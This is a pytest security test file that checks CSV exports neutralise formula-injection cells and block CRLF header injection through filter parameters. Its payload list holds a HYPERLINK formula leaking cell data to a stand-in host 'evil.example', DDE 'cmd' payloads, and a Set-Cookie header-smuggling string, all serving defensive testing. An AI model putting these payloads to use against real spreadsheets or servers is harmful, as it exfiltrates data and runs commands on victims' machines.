"""CSV exports: no cell a spreadsheet would run as a formula, and no header a filter can split.

Cells starting with = + - @, tab or CR come back with a leading ' (read with the csv module, as
a spreadsheet would split them); the download's Content-Disposition is ours alone.
"""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any
from urllib.parse import quote

import pytest
from security_helpers import API, FORMULA_STARTS, INBOX, add_message, add_run, count

pytestmark = [pytest.mark.integration, pytest.mark.security]

PAYLOADS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FILENAME = re.compile(r'^attachment; filename="(messages|runs)-\d{8}T\d{6}Z\.csv"$')


def rows(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert FILENAME.match(answer.headers["content-disposition"])
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def assert_no_formula(table: list[dict[str, str]]) -> None:
    for row in table:
        for column, cell in row.items():
            assert not (cell or "").startswith(FORMULA_STARTS), (column, cell)


def test_messages_csv_neutralises_every_cell_that_could_start_a_formula(admin, project):
    for payload in PAYLOADS:
        message_id = add_message(
            project, -5, project=payload, method=payload, path=payload, headers={"x": payload}
        )
        project.execute(
            "INSERT INTO openfn_dispatch (message_id, project, trigger) VALUES (%s, %s, %s)",
            [message_id, payload, payload],
        )
    add_message(project, PAYLOADS[0])  # a JSON string: its cell starts with a quote

    table = rows(admin.get(f"{API}/messages.csv"))

    assert len(table) == len(PAYLOADS) + 1
    assert_no_formula(table)
    newest, *others = table
    assert json.loads(newest["body"]) == PAYLOADS[0]
    for row, payload in zip(others, reversed(PAYLOADS), strict=True):
        for column in ("project", "method", "path", "matched"):
            assert row[column] == "'" + payload, (column, row[column])
        assert row["body"] == "'-5"


def test_messages_posted_to_the_inbox_come_back_neutralised(admin, anonymous, project):
    for payload in PAYLOADS:
        answer = anonymous.post(
            f"{INBOX}/{quote(payload, safe='')}",
            json={"form": "intake", "name": payload},
            headers={"x-note": payload.replace("\r", " ")},
        )
        assert answer.status_code == 202, answer.text
    number = anonymous.post(INBOX, content=b"-12", headers={"content-type": "application/json"})
    assert number.status_code == 202, number.text

    table = rows(admin.get(f"{API}/messages.csv"))

    assert len(table) == len(PAYLOADS) + 1
    assert_no_formula(table)
    assert table[0]["body"] == "'-12"


def test_runs_csv_neutralises_every_cell_that_could_start_a_formula(admin, project):
    for payload in PAYLOADS:
        add_run(project, project=payload, job=payload, dag_id=payload, dag_run_id=payload)

    table = rows(admin.get(f"{API}/runs.csv"))

    assert len(table) == len(PAYLOADS)
    assert_no_formula(table)
    for row, payload in zip(table, reversed(PAYLOADS), strict=True):
        for column in ("project", "job", "dag_id", "dag_run_id"):
            assert row[column] == "'" + payload, (column, row[column])


@pytest.mark.parametrize("path", ["messages.csv", "runs.csv"])
def test_filters_never_reach_the_download_headers(admin, project, path):
    add_message(project, {"form": "intake"})
    add_run(project)
    injected = 'x"\r\nSet-Cookie: session=evil\r\nContent-Disposition: inline; filename="a.html'

    answer = admin.get(f"{API}/{path}", params={"project": injected, "q": injected})

    assert rows(answer) == []
    assert "set-cookie" not in answer.headers
    assert answer.headers.get_list("content-disposition") == [answer.headers["content-disposition"]]
    assert count(project, "openfn_message") == 1
